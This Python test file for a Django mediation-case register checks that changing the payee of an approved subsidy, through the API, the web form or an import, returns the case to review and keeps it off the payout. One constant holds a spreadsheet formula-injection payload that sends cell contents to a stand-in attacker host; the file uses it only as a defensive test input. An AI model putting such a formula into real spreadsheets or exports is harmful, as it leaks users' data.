"""Who is paid must not change after approval (issue 15, point 6): a change of the mediator,
committee or amount of an approved case, through the API, the web edit or an import, sends
it back to review (已申报) with the reason in its audit entry; the payout no longer holds it
until the county approves it again."""

import importlib
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from fazhi.api import tokens
from fazhi.api.tests.conftest import ApiClient
from fazhi.core.models import AuditAction, AuditEntry
from fazhi.core.roles import Role
from fazhi.imports.tests.files import xlsx_bytes
from fazhi.mediation import actions, payout
from fazhi.mediation.columns import REGISTER
from fazhi.mediation.models import MediationCase, SubsidyStatus

RECORDS = "/api/registers/mediation/records"
FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"查看")'


@pytest.fixture
def approved(mediate, office, county):
    """白果1, mediated by 向某, approved for 2024 at 100 元."""
    case = actions.submit_for_subsidy(office, mediate("白果1"), 2024)
    return actions.approve_subsidy(county, case)


def api_for(user) -> ApiClient:
    _, secret = tokens.create_token(None, user, "测试")
    return ApiClient(secret)


def paid(year=2024):
    return payout.total(MediationCase.objects.all(), year)


def last_update(case) -> AuditEntry:
    return AuditEntry.objects.filter(
        action=AuditAction.UPDATE, register="mediation", object_id=str(case.pk)
    ).latest("id")


def reimport(client, user, **cells):
    """白果1 imported again by `user`, its mediator now 冒名某, with `cells` changed."""
    row = {h: "" for h in REGISTER.headers}
    row.update(
        调解编号="白果1",
        调解组织="433126-S01-01",
        受理日期="2024-03-01",
        纠纷类型="邻里",
        调解员="冒名某",
        调解结果="调解成功",
        协议形式="书面协议",
        结案日期="2024-03-10",
        疑难程度="一般",
        所属单位代码="433126-S01-01",
    )
    row.update(cells)
    upload = io.BytesIO(xlsx_bytes([row], REGISTER.headers))
    upload.name = "调解.xlsx"
    client.force_login(user)
    return client.post(reverse("imports:upload", args=["mediation"]), {"file": upload})


def assert_back_in_review(case, label):
    case.refresh_from_db()
    assert case.subsidy_status == SubsidyStatus.SUBMITTED
    assert case.subsidy_amount is None and case.subsidy_approved == {}
    assert case.subsidy_reason == f"审核通过后修改了{label}，须重新审核"
    assert paid() == (0, Decimal("0"))
    entry = last_update(case)
    assert (entry.before["subsidy_status"], entry.after["subsidy_status"]) == (
        "approved",
        "submitted",
    )
    assert entry.after["subsidy_reason"] == case.subsidy_reason
    return entry


def test_the_committees_clerk_changes_the_mediator_through_the_api(approved, clerk, county, client):
    """The attack: after approval the 填报员 renames the mediator to a formula (or to anyone
    he likes) through the API; the payout list would have paid that name."""
    assert paid() == (1, Decimal("100"))
    response = api_for(clerk).patch(f"{RECORDS}/{approved.pk}", {"mediator": FORMULA})
    assert response.status_code == 200, response.json()
    assert response.json()["subsidy_status"] == "submitted"
    entry = assert_back_in_review(approved, "调解员")
    assert entry.channel == "api" and entry.actor == clerk
    names = [r["mediator"] for r in payout.by_mediator(MediationCase.objects.all(), 2024)]
    assert FORMULA not in names
    # It is on the county's review list again, and paid only once approved again.
    client.force_login(county)
    assert "白果1" in client.get(reverse("mediation:subsidy_review")).content.decode()
    actions.approve_subsidy(county, MediationCase.objects.get(pk=approved.pk))
    assert paid() == (1, Decimal("100"))


def test_the_office_moves_an_approved_case_to_another_committee_through_the_api(
    mediate, office, county, committees
):
    case = mediate("所1", "baiguo")
    case.unit = office.unit  # a case the 司法所 itself registered, mediated by 白果
    case.save(update_fields=["unit"])
    case = actions.submit_for_subsidy(office, MediationCase.objects.get(pk=case.pk), 2024)
    case = actions.approve_subsidy(county, case)
    hexi = committees["hexi"].code
    response = api_for(office).patch(f"{RECORDS}/{case.pk}", {"committee_code": hexi})
    assert response.status_code == 200, response.json()
    assert_back_in_review(case, "调解组织")


def test_a_change_that_does_not_touch_who_is_paid_keeps_the_approval(approved, clerk):
    response = api_for(clerk).patch(f"{RECORDS}/{approved.pk}", {"prevented_criminal": True})
    assert response.status_code == 200, response.json()
    approved.refresh_from_db()
    assert approved.subsidy_status == SubsidyStatus.APPROVED and paid() == (1, Decimal("100"))


def edit_data(case, **changes) -> dict:
    data = {
        "number": case.number,
        "committee_code": case.committee_code,
        "received_date": case.received_date.isoformat(),
        "dispute_type": case.dispute_type,
        "source": case.source,
        "parties": case.parties or "",
        "amount": case.amount or "",
        "mediator": case.mediator,
        "status": case.status,
        "agreement_form": case.agreement_form,
        "closed_date": case.closed_date.isoformat(),
        "difficulty": case.difficulty,
    }
    data.update(changes)
    return data


def test_the_web_edit_of_the_mediator_sends_it_back_and_says_so(approved, clerk, client):
    client.force_login(clerk)
    url = reverse("mediation:edit", args=[approved.pk])
    response = client.post(url, edit_data(approved, mediator="田某"))
    assert response.status_code == 302
    entry = assert_back_in_review(approved, "调解员")
    assert "以奖代补退回重新审核：审核通过后修改了调解员" in entry.note
    page = client.get(reverse("mediation:detail", args=[approved.pk])).content.decode()
    assert "审核通过后修改了调解员，须重新审核" in page
    # Under review again, the case is not edited until the county has decided.
    again = client.post(url, edit_data(approved, mediator="彭某")).content.decode()
    assert "正在审核的案件不能修改" in again
    assert MediationCase.objects.get(pk=approved.pk).mediator == "田某"


def test_a_reimported_sheet_with_another_mediator_sends_it_back(approved, clerk, client):
    # 审核通过, as the export shows it: the status itself is unchanged.
    response = reimport(client, clerk, 以奖代补审核="审核通过")
    assert response.status_code == 302  # imported (a refusal renders the page with errors)
    assert MediationCase.objects.get(pk=approved.pk).mediator == "冒名某"
    assert_back_in_review(approved, "调解员")


def test_the_county_reviewers_own_edit_sends_it_back_too(approved, make_user, tree):
    """Nobody approves a payee by editing it: the reviewer's change goes back to review."""
    reviewer = make_user("gz_tj2", tree["county"], Role.MEDIATION)
    case = MediationCase.objects.get(pk=approved.pk)
    actions.update_case(reviewer, case, mediator="彭某")
    assert_back_in_review(case, "调解员")


def test_cases_approved_before_the_migration_are_guarded_too(approved, clerk):
    """Migration 0005 records the payee of every case approved before it (these had none)."""
    from django.apps import apps

    fill = importlib.import_module(
        "fazhi.mediation.migrations.0005_fill_tier_units_and_approved_payees"
    )
    MediationCase.objects.filter(pk=approved.pk).update(subsidy_approved={})  # as before it
    fill.approved_payees(apps, None)
    recorded = MediationCase.objects.get(pk=approved.pk).subsidy_approved
    assert recorded == {
        "committee_code": "433126-S01-01",
        "mediator": "向某",
        "difficulty": "ordinary",
        "amount": "100.00",
    }
    response = api_for(clerk).patch(f"{RECORDS}/{approved.pk}", {"mediator": "冒名某"})
    assert response.status_code == 200, response.json()
    assert_back_in_review(approved, "调解员")


def test_a_case_under_review_is_held_on_every_write_path(mediate, office, county, clerk, client):
    """已申报、正在审核的案件不能修改: not by the web edit alone, but by the API and an import
    too (Register.held, in core.writes.prepare), until the county decides."""
    case = actions.submit_for_subsidy(office, mediate("白果1"), 2024)
    response = api_for(clerk).patch(f"{RECORDS}/{case.pk}", {"mediator": "冒名某"})
    assert response.status_code in (403, 409, 422), response.json()
    assert "正在审核的案件不能修改" in str(response.json())
    page = reimport(client, clerk, 以奖代补审核="已申报")
    assert "正在审核的案件不能修改" in page.content.decode()
    assert MediationCase.objects.get(pk=case.pk).mediator == "向某"
    # The county's decision is the action the hold waits for: it is not refused.
    approved = actions.approve_subsidy(county, MediationCase.objects.get(pk=case.pk))
    assert approved.subsidy_status == SubsidyStatus.APPROVED


def test_a_held_case_imported_again_as_it_stands_is_no_change(mediate, office, clerk, client):
    """The hold refuses a change, not a workbook that still holds the case as it is."""
    case = actions.submit_for_subsidy(office, mediate("白果1"), 2024)
    response = reimport(client, clerk, 调解员="向某", 以奖代补审核="已申报")
    assert response.status_code == 302, response.content.decode()[-2000:]
    case.refresh_from_db()
    assert (case.mediator, case.subsidy_status) == ("向某", SubsidyStatus.SUBMITTED)
